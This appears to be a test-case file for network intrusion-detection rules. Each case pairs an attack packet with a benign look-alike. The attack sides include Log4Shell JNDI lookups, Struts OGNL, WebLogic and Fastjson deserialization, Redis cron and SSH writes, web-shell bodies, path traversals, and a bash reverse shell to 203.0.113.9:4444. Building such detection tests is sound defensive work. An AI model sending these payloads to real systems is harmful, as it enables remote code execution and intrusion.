"""Cases of rules/intrusion.rules."""
import base64
import struct
from urllib.parse import quote

from apps import http
from capture import SECOND
from cases import INSIDE, OUTSIDE, SERVER, START, Case, dialogue, requests, tcp, uri

JNDI = "${${lower:j}ndi:ldap://203.0.113.9:1389/a}"
OGNL = "%{(#nike='multipart/form-data').(#_memberAccess?(#_memberAccess=#dm):1)}"
BINARY = bytes(range(256)) * 4
BLOB = base64.b64encode(BINARY).decode()            # 1368 characters, and no more in them than that


def send(method, where, body="", *, kind="application/x-www-form-urlencoded", response=None, **rest):
    """A request with a body from outside."""
    raw = body if isinstance(body, bytes) else body.encode()
    ask = http.request(method, where, "www.example", body=raw, headers={"Content-Type": kind, **rest.pop("headers", {})}, **rest)
    return lambda path: requests(path, OUTSIDE, SERVER, (ask, response))


def post(where, body, **rest):
    return send("POST", where, body, **rest)


def json_body(where, text, **rest):
    return post(where, text, kind="application/json", **rest)


def header(name, value):
    return uri("/", headers={name: value})


def times(count, request, response):
    return lambda path: requests(path, OUTSIDE, SERVER, *[(request, response)] * count)


def talk(client, server, port, *messages):
    return lambda path: dialogue(tcp(path, client, server, port), *messages)


def to_server(port, *messages, client=OUTSIDE):
    return talk(client, SERVER, port, *messages)


def out(*messages):
    """A program inside speaks to the outside first."""
    return talk(INSIDE, OUTSIDE, 4444, *messages)


def resp(*words):
    """A Redis command (RESP)."""
    return b"*%d\r\n" % len(words) + b"".join(b"$%d\r\n%s\r\n" % (len(w), w) for w in map(str.encode, words))


# ---- remember me ----

def cookie(length):
    return header("Cookie", "rememberMe=" + (BLOB * 2)[:length])


def forgotten(count):
    gone = http.response(200, b"ok", headers={"Set-Cookie": "rememberMe=deleteMe; Path=/; Max-Age=0"})
    return times(count, http.get("/login", "www.example"), gone)


def injected(asked, first=True):
    """A look-up string comes in; then, or without it, the host asks outside."""
    def play(path):
        if first:
            json_body("/api", '{"name":"%s"}' % JNDI)(path)
        dialogue(tcp(path, SERVER, OUTSIDE, 1389, at=START + 5 * SECOND), asked)
    return play


# ---- WebLogic ----

T3 = b"t3 12.2.1\nAS:255\nHL:19\nMS:10000000\n\n"
HELO = b"HELO:12.2.1.3.0.false\nAS:2048\nHL:19\n\n"


def stream(class_name):
    """A Java object stream that names a class."""
    return b"\0\0\0\x40\1\x65" + b"\xac\xed\0\5sr" + struct.pack("!H", len(class_name)) + class_name.encode() + bytes(12)


def giop(operation):
    name = operation.encode() + b"\0"
    return b"GIOP\1\2\0\0" + struct.pack("!IIB3xIII", 40 + len(name), 2, 3, 0, 4, len(name)) + name + bytes(16)


XML = '<soapenv:Envelope><soapenv:Header><work:WorkContext><java class="java.beans.XMLDecoder"><void class="%s"/></java></work:WorkContext></soapenv:Header></soapenv:Envelope>'

# ---- Windows ----

def smb1(command, status=0, multiplex=64, body=bytes(20)):
    """An SMB1 message in its NetBIOS frame."""
    head = b"\xffSMB" + struct.pack("<BIBHH8sHHHHH", command, status, 0x98, 0xC807, 0, bytes(8), 0, 2048, 0xFEFF, 2048, multiplex)
    return struct.pack("!I", len(head) + len(body)) + head + body


def smb1_answer(*args):
    return to_server(445, smb1(args[0]), smb1(*args))


def transactions(count):
    return to_server(445, *[smb1(0x33, body=bytes(400))] * count)


def channels(*names):
    """The client's list of channels as the remote desktop connection carries it."""
    listed = b"".join(name.encode().ljust(8, b"\0") + struct.pack("<I", 0x80000000) for name in names)
    data = b"\x03\xc0" + struct.pack("<HI", 8 + len(listed), len(names)) + listed
    body = b"\x02\xf0\x80\x7f\x65\x82\x01\x94" + bytes(40) + b"Duca" + struct.pack("!H", 0x8000 | len(data)) + data
    return to_server(3389, b"\3\0" + struct.pack("!H", len(body) + 4) + body)


# ---- web shells ----

def shell(where, body, answer, kind="application/x-www-form-urlencoded"):
    return post(where, body, kind=kind, response=http.response(200, answer.encode() if isinstance(answer, str) else answer))


MD5 = "5f4dcc3b5aa765d61d8327deb882cf99"
PARAMETER = "pass=" + quote(BLOB[:256])
ANT = 'ant=@ini_set("display_errors", "0");@set_time_limit(0);echo "x";'
CHOPPER = "z=@eval(base64_decode($_POST[z0]));&z0=" + quote(BLOB[:64])
IDENTITY = http.response(200, b"uid=0(root) gid=0(root)\n")
BIND = bytes.fromhex("300c020101600702010304008000")        # what a JNDI client says first: anonymous, version 3
LOADER = "org.springframework.context.support.ClassPathXmlApplicationContext"
BANNER = b"Microsoft Windows [Version 10.0.19045.4291]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\Users\\drill>"
CLASSES = b"\x30\x60\x02\x01\x02d\x5b\x04\x01a0\x56javaClassName\x04\x03foo\x04\x0cjavaCodeBase\x04\x1dhttp://203.0.113.9:8000/java"
PEOPLE = b"\x30\x40\x02\x01\x02d\x3b\x04\x01a0\x36objectClass\x04\x0dinetOrgPerson\x04\x02cn\x04\x05drill"
DOCKER = '{"Image":"alpine","HostConfig":{"Binds":["/:/mnt"]}}'
UPLOAD = '--b\r\nContent-Disposition: form-data; name="file"; filename="%s"\r\n\r\nx\r\n--b--\r\n'
MULTIPART = "multipart/form-data; boundary=b"


def upload(where, name):
    return post(where, UPLOAD % name, kind=MULTIPART)


CASES = {
    9100701: Case(json_body("/api", '{"name":"%s"}' % JNDI), json_body("/api", '{"template":"${title} of ${name}, jndi handbook"}')),
    9100702: Case(talk(INSIDE, OUTSIDE, 1389, b"\x30\x0c\x02\x01\x01", CLASSES), talk(INSIDE, OUTSIDE, 389, b"\x30\x0c\x02\x01\x01", PEOPLE)),
    9100703: Case(header("Content-Type", OGNL), header("Content-Type", "application/{json}; v=%7B1%7D")),
    9100704: Case(uri("/${(%23_memberAccess[%22allow%22]=true).(1)}/help.action"), uri("/help.action?t=$%7Btitle%7D&c=%231")),
    9100705: Case(post("/index.action", "id=" + quote("%{(#_memberAccess=#dm).(1)}")), post("/index.action", "color=%23ffcc00&memberAccess=1")),
    9100706: Case(json_body("/api", '{"a":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.9/a"}}'),
                  json_body("/api", '{"@context":"https://schema.org","@type":"Person","name":"drill"}')),
    9100707: Case(cookie(1200), cookie(512)),
    9100708: Case(forgotten(20), forgotten(4)),
    9100709: Case(to_server(7001, T3, HELO), to_server(7001, T3, HELO, client=INSIDE)),
    9100710: Case(to_server(7001, T3, HELO, stream("java.rmi.registry.Registry"), client=INSIDE), to_server(7001, T3, HELO, stream("weblogic.rjvm.ClassTableEntry"), client=INSIDE)),
    9100711: Case(to_server(7001, giop("bind_any")), to_server(7001, giop("_is_a"))),
    9100712: Case(post("/wls-wsat/CoordinatorPortType", XML % "java.lang.ProcessBuilder", kind="text/xml"), post("/wls-wsat/CoordinatorPortType", "<soapenv:Envelope/>", kind="text/xml")),
    9100713: Case(uri("/console/css/%252e%252e%252fconsole.portal"), uri("/console/console.portal?_pageLabel=x")),
    9100714: Case(uri("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"), uri("/index.php?s=/think/app/display")),
    9100715: Case(post("/index.php?s=captcha", "_method=__construct&filter[]=system&method=get&get[]=id"), post("/index.php", "_method=PUT&filter[]=city")),
    9100716: Case(uri("/?lang=../../../../usr/local/lib/php/pearcmd&+config-create+/x"), uri("/help?q=pearcmd")),
    9100717: Case(post("/", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"), post("/", "class.module=5&classLoader=7")),
    9100718: Case(header("spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime()"), header("spring.cloud.function.routing-expression", "'uppercase'")),
    9100719: Case(json_body("/actuator/gateway/routes/x", '{"filters":[{"args":{"value":"#{new String()}"}}]}'), json_body("/actuator/gateway/routes/x", '{"uri":"http://a.example","filters":[]}')),
    9100720: Case(uri("/%24%7B%40java.lang.Runtime%40getRuntime%28%29%7D/"), uri("/%24%7Bpage%7D/view")),
    9100721: Case(uri("/setup/setupadministrator.action"), uri("/login.action?os_destination=setup")),
    9100722: Case(uri("/autodiscover/autodiscover.json?@a.example/mapi/nspi?&Email=autodiscover/autodiscover.json%3f@a.example"), uri("/autodiscover/autodiscover.json?Email=a@unit.example&Protocol=Autodiscoverv1")),
    9100723: Case(header("Cookie", "X-BEResource=localhost/owa/auth/x?~1942062522"), header("Cookie", "X-BEResource=mail01.unit.example")),
    9100724: Case(smb1_answer(0x25, 0xC0000205), smb1_answer(0x25, 0xC0000022)),
    9100725: Case(smb1_answer(0x32, 0xC0000002, 0x51), smb1_answer(0x32, 0xC0000002, 0x41)),
    9100726: Case(transactions(40), transactions(6)),
    9100727: Case(channels("rdpsnd", "MS_T120"), channels("rdpsnd", "cliprdr", "drdynvc")),
    9100728: Case(to_server(6379, resp("CONFIG", "SET", "dir", "/var/spool/cron/"), b"+OK\r\n"), to_server(6379, resp("CONFIG", "SET", "maxmemory", "100mb"), b"+OK\r\n")),
    9100729: Case(to_server(6379, resp("MODULE", "LOAD", "/tmp/exp.so"), b"+OK\r\n"), to_server(6379, resp("MODULE", "LIST"), b"*0\r\n")),
    9100730: Case(shell("/upload/a.jsp", BLOB, BINARY), shell("/api/upload", BLOB, "ok")),
    9100732: Case(shell("/a.php", PARAMETER, MD5[:16] + BLOB[:64] + MD5[16:]), shell("/a.php", PARAMETER, MD5 + MD5)),
    9100733: Case(shell("/a.php", quote(ANT, safe="="), "x"), shell("/a.php", "q=" + quote("how does @ini_set work"), "x")),
    9100734: Case(shell("/a.php", CHOPPER, "x"), shell("/a.php", "z=evaluation&z0=" + quote(BLOB[:64]), "x")),
    9100735: Case(post("/servlet/~ic/bsh.servlet.BshServlet", "bsh.script=exec(%22id%22)"), uri("/servlet/~ic/bsh.servlet.BshServlet")),
    9100736: Case(post("/seeyon/htmlofficeservlet", "DBSTEP V3.0     355             0"), post("/seeyon/htmlofficeservlet", "x=1")),
    9100737: Case(post("/ispirit/interface/gateway.php", "json=" + quote('{"url":"/general/../../nginx/logs/oa.access.log"}')), post("/ispirit/interface/gateway.php", "json=" + quote('{"url":"/general/index.php"}'))),
    9100738: Case(post("/sys/ui/extend/varkind/custom.jsp", "var=" + quote('{"body":{"file":"file:///etc/passwd"}}')), post("/sys/ui/extend/varkind/custom.jsp", "var=" + quote('{"body":{"name":"list"}}'))),
    9100739: Case(uri("/nacos/v1/auth/users?pageNo=1", agent="Nacos-Server"), uri("/nacos/v1/auth/users?pageNo=1")),
    9100740: Case(upload("/center/api/files;.js", "../../../bin/tomcat/webapps/a.jsp"), upload("/center/api/files;.js", "door.jpg")),
    9100741: Case(json_body("/mgmt/tm/util/bash", '{"command":"run","utilCmdArgs":"-c id"}'), uri("/mgmt/tm/util/bash")),
    9100742: Case(uri("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"), uri("/remote/fgt_lang?lang=zh")),
    9100743: Case(uri("/cgi-bin/.%2e/.%2e/.%2e/etc/hosts"), uri("/cgi-bin/a%20b/status")),
    9100744: Case(to_server(61616, b"\0\0\0\x70\x1f\0\0\0\0\0\0\0\0\0\1\1\x42" + LOADER.encode() + b"\1\0\x1ahttp://203.0.113.9/a.xml"), to_server(61616, b"\0\0\0\x70\x1f\0\0\0\0\0\0\0\0\0\1\1\x13java.lang.Exception\1\0\x04http")),
    9100745: Case(json_body("/v1.41/containers/create", DOCKER), json_body("/v1.41/containers/create", '{"Image":"alpine","HostConfig":{"Binds":["data:/data"]}}')),
    9100746: Case(uri("/a.php", agent="antSword/v2.1"), uri("/antSword/v2.1")),
    9100747: Case(post("/run", "cmd=" + quote("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")), post("/ask", "q=" + quote("what is /dev/tcp/ in bash -i"))),
    9100748: Case(out(BANNER), talk(INSIDE, OUTSIDE, 4444, b"hello\r\n", BANNER)),
    9100751: Case(injected(BIND), injected(BIND, first=False)),
    9100752: Case(injected(b"JRMI\0\2\x4b"), injected(b"JRMI\0\2\x4b", first=False)),
    9100753: Case(post("/", "class.module.classLoader.x=1", response=IDENTITY), uri("/help/id.html", IDENTITY)),
    9100754: Case(to_server(6379, resp("CONFIG", "SET", "dir", "/root/.ssh"), b"+OK\r\n"), to_server(6379, resp("CONFIG", "SET", "dir", "/root/.ssh"), b"-NOAUTH Authentication required.\r\n"), also=(9100728,)),
    9100749: Case(out(b"uid=0(root) gid=0(root) groups=0(root)\n"), out(b"GET /?q=uid=0(root) HTTP/1.1\r\n\r\n")),
}
MARKS = (9100731, 9100750)
